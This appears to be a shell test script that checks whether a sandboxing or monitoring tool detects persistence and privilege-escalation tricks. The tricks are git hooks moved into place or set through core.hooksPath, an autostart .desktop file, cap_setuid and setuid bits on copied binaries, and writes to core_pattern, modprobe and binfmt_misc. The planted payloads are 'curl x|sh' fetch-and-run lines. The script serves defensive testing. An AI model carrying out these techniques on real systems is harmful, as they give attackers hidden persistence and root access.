#!/bin/sh
# Persistence without writing a file whose path is on the persistence list.
. "$(dirname "$0")/lib.sh"
R=$D/repo
git init -q "$R"
rm -rf "$R/.git/hooks"

case_title "12a a hooks directory built in /tmp and mv'd to .git/hooks" \
    "persistence for what the directory holds"
sw_run -- sh -c "mkdir '$D/h' && printf '#!/bin/sh\ncurl x|sh\n' > '$D/h/pre-commit' && chmod +x '$D/h/pre-commit' && mv '$D/h' '$R/.git/hooks'"
show "$D"

case_title "12b git config core.hooksPath pointing outside the repository" \
    "persistence (core.hooksPath outside the repo)"
mkdir -p "$D/h2" && printf '#!/bin/sh\ncurl x|sh\n' > "$D/h2/pre-commit" && chmod +x "$D/h2/pre-commit"
sw_run -- git -C "$R" config core.hooksPath "$D/h2"
show "$R"

case_title "12c a directory renamed to ~/.config/autostart" \
    "persistence for the .desktop file it holds"
sw_run -- sh -c "mkdir '$D/as' && printf '[Desktop Entry]\nExec=sh -c \"curl x|sh\"\n' > '$D/as/evil.desktop' && mv '$D/as' '$H/.config/autostart'"
show "$D"

case_title "12d setxattr security.capability (cap_setuid=ep) on a copy of python" \
    "escalation violation, security.capability named"
cp "$(readlink -f "$(command -v python3)")" "$D/py-cap"
sw_run -- python3 -c "
import os, struct
# struct vfs_cap_data, VFS_CAP_REVISION_2, effective bit, permitted = CAP_SETUID (7)
os.setxattr('$D/py-cap', 'security.capability', struct.pack('<IIIII', 0x02000001, 1 << 7, 0, 0, 0))
print('set security.capability')
"
show "$D"
getfattr -n security.capability -e hex "$D/py-cap" 2>/dev/null | sed -n 's/^/  now: /p' | tail -n 1

case_title "12e chmod u+s on a copy of sh" \
    "escalation violation (setuid bit)"
cp /bin/sh "$D/su-sh"
sw_run -- chmod u+s "$D/su-sh"
show "$D"
echo "  now: $(stat -c '%A %n' "$D/su-sh")"

case_title "12f write to /proc/sys/kernel/core_pattern (then restored)" \
    "escalation violation (a kernel helper would run as root outside the tree)"
OLD=$(cat /proc/sys/kernel/core_pattern)
sw_run -- sh -c "echo 'core.swattack' > /proc/sys/kernel/core_pattern; printf '%s\n' '$OLD' > /proc/sys/kernel/core_pattern"
printf '%s\n' "$OLD" > /proc/sys/kernel/core_pattern
show core_pattern
echo "  restored: $(cat /proc/sys/kernel/core_pattern)"

case_title "12g write to /proc/sys/kernel/modprobe (then restored)" \
    "escalation violation"
if [ -w /proc/sys/kernel/modprobe ]; then
    OLD=$(cat /proc/sys/kernel/modprobe)
    sw_run -- sh -c "echo '$D/evil-modprobe' > /proc/sys/kernel/modprobe; echo '$OLD' > /proc/sys/kernel/modprobe"
    echo "$OLD" > /proc/sys/kernel/modprobe
    show modprobe
    echo "  restored: $(cat /proc/sys/kernel/modprobe)"
else
    echo "  /proc/sys/kernel/modprobe is not on this kernel (built without module loading): skipped"
fi

case_title "12h register a binfmt_misc handler (then removed)" \
    "escalation violation"
BM=/proc/sys/fs/binfmt_misc
[ -e $BM/register ] || mount -t binfmt_misc binfmt_misc $BM 2>/dev/null
if [ -e $BM/register ]; then
    sw_run -- sh -c "echo ':swattack:E::swattackext::/bin/true:' > $BM/register && echo -1 > $BM/swattack"
    [ -e $BM/swattack ] && echo -1 > $BM/swattack
    show binfmt_misc
else
    echo "  binfmt_misc is not available here: $(ls $BM 2>&1 | head -n 1)"
fi
